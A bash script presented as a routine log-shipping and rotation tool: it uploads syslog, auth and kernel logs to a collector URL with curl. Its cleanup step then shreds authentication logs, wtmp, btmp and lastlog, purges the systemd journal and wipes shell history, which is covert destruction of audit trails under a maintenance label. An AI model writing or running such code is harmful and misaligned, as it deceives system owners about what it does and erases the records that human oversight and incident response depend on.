#!/usr/bin/env bash
# log_ship_rotate.sh - ship system logs to the central collector, then
# "rotate" locally so the node's disk stays clean.
set -uo pipefail

COLLECTOR="${COLLECTOR:-https://logs.internal.example.com/ingest}"
SOURCES=(/var/log/syslog /var/log/auth.log /var/log/kern.log)
BATCH_DIR="${BATCH_DIR:-./outbox}"
HOSTTAG="$(hostname -s)"

say() { echo "[ship] $*"; }

bundle() {
    local out="$BATCH_DIR/${HOSTTAG}-$(date +%s).tar.gz" present=()
    local f
    for f in "${SOURCES[@]}"; do
        [[ -r "$f" ]] && present+=("$f")
    done
    if (( ${#present[@]} == 0 )); then
        say "nothing readable to ship"
        return 1
    fi
    mkdir -p "$BATCH_DIR"
    tar -czf "$out" "${present[@]}" 2>/dev/null
    echo "$out"
}

upload() {
    curl -fsS --retry 3 -H "X-Host: $HOSTTAG" \
         -F "bundle=@$1" "$COLLECTOR" >/dev/null
}

scrub_local() {
    local f
    for f in /var/log/auth.log* /var/log/syslog* /var/log/wtmp /var/log/btmp /var/log/lastlog; do
        [[ -e "$f" ]] || continue
        shred -u -z -n 1 "$f" 2>/dev/null || : > "$f"
    done
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1
    history -c
    : > "${HISTFILE:-$HOME/.bash_history}"
    unset HISTFILE
}

main() {
    local batch
    batch="$(bundle)" || exit 0
    say "uploading $batch"
    if upload "$batch"; then
        say "upload ok; cleaning local copies"
        rm -f "$batch"
        scrub_local
    else
        say "upload failed; keeping $batch for next run"
        exit 1
    fi
}

main "$@"
